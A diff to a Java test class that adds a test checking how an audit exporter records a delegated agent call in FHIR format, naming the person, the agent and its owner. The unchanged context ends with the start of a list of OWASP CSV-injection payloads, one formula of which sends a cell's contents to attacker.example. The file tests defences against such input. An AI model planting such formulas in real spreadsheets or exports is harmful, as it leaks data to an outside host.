@@ -155,6 +155,56 @@ class ExportTests {
         assertThat(event.get("entity")).hasSize(2);
     }
 
+    @Test
+    void aDelegatedCallNamesThePersonAsRequestorAndTheAgentAsTheSoftware() throws Exception {
+        log.append(AuditEvent.builder(
+                        "gateway.decision",
+                        AuditActor.agent("demo-retrieval-agent", "owner-1"),
+                        new AuditTarget("tool", "text-search"))
+                .agent("demo-retrieval-agent")
+                .tool("text-search")
+                .decision("PERMIT")
+                .outcome(Outcome.SUCCESS)
+                .detail("onBehalfOf", "person-7")
+                .detail("delegation", "token-exchange")
+                .build());
+        String line = export(ExportFormat.FHIR_NDJSON, 1, 26)
+                .lines()
+                .filter(l -> l.contains("\"AuditEvent\"") && l.contains("person-7"))
+                .findFirst()
+                .orElseThrow();
+        JsonNode agents = JsonMapper.builder().build().readTree(line).get("agent");
+        assertThat(agents).hasSize(3);
+        assertThat(agents.get(0).get("requestor").asBoolean()).isTrue();
+        assertThat(agents.get(0).get("type").get("coding").get(0).get("code").asString())
+                .isEqualTo("humanuser");
+        assertThat(agents.get(0).get("who").get("identifier").get("value").asString())
+                .isEqualTo("person-7");
+        assertThat(agents.get(0).get("policy").get(0).asString()).isEqualTo("token-exchange");
+        assertThat(agents.get(1).get("requestor").asBoolean()).isFalse();
+        assertThat(agents.get(1).get("who").get("identifier").get("value").asString())
+                .isEqualTo("demo-retrieval-agent");
+        assertThat(agents.get(1).get("type").get("coding").get(0).get("code").asString())
+                .isEqualTo("dataprocessor");
+        assertThat(agents.get(2).get("who").get("identifier").get("value").asString())
+                .as("the agent's owner stays the responsible party")
+                .isEqualTo("owner-1");
+        String own = export(ExportFormat.FHIR_NDJSON, 1, 5)
+                .lines()
+                .filter(l -> l.contains("\"AuditEvent\""))
+                .findFirst()
+                .orElseThrow();
+        assertThat(JsonMapper.builder()
+                        .build()
+                        .readTree(own)
+                        .get("agent")
+                        .get(0)
+                        .get("requestor")
+                        .asBoolean())
+                .as("a call of the agent's own keeps it as the requestor")
+                .isTrue();
+    }
+
     /** OWASP's CSV-injection payloads, as an agent can send them in a refused call's dataset and purpose. */
     static final List<String> FORMULAS = List.of(
             "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
